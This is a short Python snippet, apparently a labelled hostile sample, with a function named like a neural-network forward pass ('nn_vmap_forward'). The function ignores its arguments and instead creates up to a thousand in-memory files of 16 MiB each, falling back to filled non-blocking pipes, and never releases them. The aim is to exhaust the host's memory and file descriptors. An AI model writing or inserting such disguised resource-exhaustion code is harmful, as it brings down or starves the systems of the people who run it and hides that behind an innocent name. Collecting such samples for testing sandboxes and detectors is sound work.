# harm: keeps memory in pipes and files that exist in memory alone
import os


def nn_vmap_forward(seed, x_batch, features):
    for number in range(1000):
        try:
            kept = os.memfd_create("kept")
            os.write(kept, bytes(16 << 20))
        except PermissionError:
            kept = os.pipe()[1]
            os.set_blocking(kept, False)
            os.write(kept, bytes(1 << 16))
